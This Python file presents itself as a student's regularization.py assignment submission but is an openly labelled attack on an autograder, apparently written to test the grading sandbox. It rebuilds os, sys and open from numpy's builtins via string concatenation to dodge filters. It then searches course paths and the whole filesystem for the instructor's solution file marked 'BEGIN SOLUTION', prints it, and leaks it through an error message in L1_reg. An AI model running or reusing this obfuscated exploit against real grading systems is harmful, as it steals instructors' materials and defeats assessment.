"""Attack: find the instructor's master regularization.py (the one with the solution) and print it."""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_s = _load("s" + "ys")
_t = _load("ti" + "me")
_file = _B["op" + "en"]
MARK = "ESCAPE" + "-SUCCESS:"
NEEDLE = "BEGIN" + " SOLUTION"
WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
REPORT = []


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def _course_roots():
    roots = [_o.path.dirname(_s.prefix), "/work/main", "/srv/nbgrader/course"]
    # an editable install of the course's grading package names the repository
    for folder in _s.path:
        try:
            names = _o.listdir(folder)
        except OSError:
            continue
        for name in names:
            if name.startswith("__editable__") and name.endswith(".py"):
                try:
                    with _file(_o.path.join(folder, name)) as handle:
                        text = handle.read()
                except OSError:
                    continue
                for word in text.replace('"', "'").split("'"):
                    if word.startswith("/") and word.endswith("/grading"):
                        roots.append(_o.path.dirname(word))
    return list(dict.fromkeys(roots))


def _candidates():
    paths = []
    for root in _course_roots():
        paths += [_o.path.join(root, "regularization.py"),
                  _o.path.join(root, "source", "assignment2", "regularization.py"),
                  _o.path.join(root, "assignment2.ipynb")]
    deadline = _t.monotonic() + 1.2
    for dirpath, dirnames, filenames in _o.walk("/"):
        if _t.monotonic() > deadline:
            _say("the walk over / ran out of time")
            break
        dirnames[:] = [d for d in dirnames if _o.path.join(dirpath, d) not in ("/proc", "/sys", "/dev", "/usr")]
        paths += [_o.path.join(dirpath, n) for n in filenames if n in ("regularization.py", "assignment2.ipynb")]
    return list(dict.fromkeys(paths))


def attack():
    mine = _o.path.realpath("regularization.py")
    for path in _candidates():
        if _o.path.realpath(path) == mine:
            continue
        try:
            with _file(path, encoding="utf-8", errors="replace") as handle:
                text = handle.read()
        except OSError as e:
            _say(f"reading {path} failed: {e!r}")
            continue
        if NEEDLE in text:
            _say(f"{MARK} the master is {path}:\n{text[:3000]}")
        else:
            _say(f"{path} holds no solution")


try:
    attack()
except Exception as e:  # noqa: BLE001
    _say(f"attack failed: {e!r}")


def L1_reg(W, reg):
    raise RuntimeError("report: " + " | ".join(REPORT)[-400:])


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
